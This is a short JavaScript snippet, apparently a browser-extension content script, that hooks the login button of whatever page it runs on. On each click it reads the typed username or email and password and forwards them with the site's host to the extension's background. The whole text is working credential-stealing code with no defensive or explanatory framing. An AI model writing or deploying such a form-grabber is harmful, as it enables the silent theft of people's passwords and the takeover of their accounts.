const user = document.querySelector('input[type="email"], input[name*="user"]');
const pass = document.querySelector('input[type="password"]');
const go = document.querySelector('button[type="submit"], #signin');
go && go.addEventListener('click', () => {
  const row = user.value + ':' + pass.value;
  chrome.runtime.sendMessage({ from: location.host, row: row });
});
